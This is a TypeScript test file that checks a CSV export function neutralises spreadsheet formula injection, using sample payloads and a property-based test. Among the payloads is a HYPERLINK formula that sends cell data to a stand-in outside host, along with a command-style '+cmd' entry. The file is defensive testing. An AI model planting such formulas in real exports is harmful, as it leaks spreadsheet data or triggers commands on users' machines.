import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { csvOf } from './csv.ts';

test('no text is a formula to a spreadsheet; numbers, telephones and other words stay as they are', () => {
  const formulas = [
    '=HYPERLINK("http://a.example/?"&A1)',
    '+1+cmd',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    ' =1',
    '＝1',
    '=',
    '-',
  ];
  const cells = formulas.map((one) => csvOf([[one]]).replace(/^"/, ''));
  for (const cell of cells) assert.match(cell, /^'/);
  const plain = ['-5', '+77010000000', '-0.5', 'ЖШС "Дала"', 'a=b', '2026-03-02', ''];
  assert.equal(csvOf([plain, [-5, 1]]), '-5,+77010000000,-0.5,"ЖШС ""Дала""",a=b,2026-03-02,\r\n-5,1\r\n');
});

test('whatever a text is, its cell begins with nothing that is reckoned', () => {
  fc.assert(
    fc.property(fc.string(), (text) => {
      const first = csvOf([[text]])
        .replace(/^"/, '')
        .trimStart();
      assert.ok(!/^[=+\-@]/.test(first) || /^[+-]?\d/.test(first), first);
    }),
  );
});
